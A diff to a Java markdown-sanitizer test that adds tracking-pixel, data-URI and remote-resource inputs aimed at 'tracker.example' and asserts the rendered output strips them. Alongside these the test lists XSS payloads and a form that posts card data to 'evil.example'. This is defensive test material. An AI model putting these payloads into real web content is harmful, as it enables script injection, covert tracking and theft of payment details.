@@ -35,6 +35,12 @@ class MarkdownTest {
                 "<p onclick=\"alert(1)\">x</p>",
                 "<style>*{display:none}</style>",
                 "<form action=\"https://evil.example\"><input name=card></form>",
+                "![](https://tracker.example/pixel.gif)",
+                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+                "<img src=\"https://tracker.example/p.gif?who=1\" width=1 height=1>",
+                "<picture><source srcset=\"https://tracker.example/p\"></picture>",
+                "<link rel=stylesheet href=//tracker.example/x.css>",
+                "<video poster=\"https://tracker.example/p\"></video>",
                 "<<script>script>alert(1)<</script>/script>"
             })
     void letsNothingThroughThatRuns(String attack) {
@@ -48,6 +54,8 @@ class MarkdownTest {
                 .doesNotContain("<form")
                 .doesNotContain("style=")
                 .doesNotContain("onclick=\"")
-                .doesNotContain("data:text");
+                .doesNotContain("data:text")
+                .doesNotContain("data:image")
+                .doesNotContain("tracker.example");
     }
 }
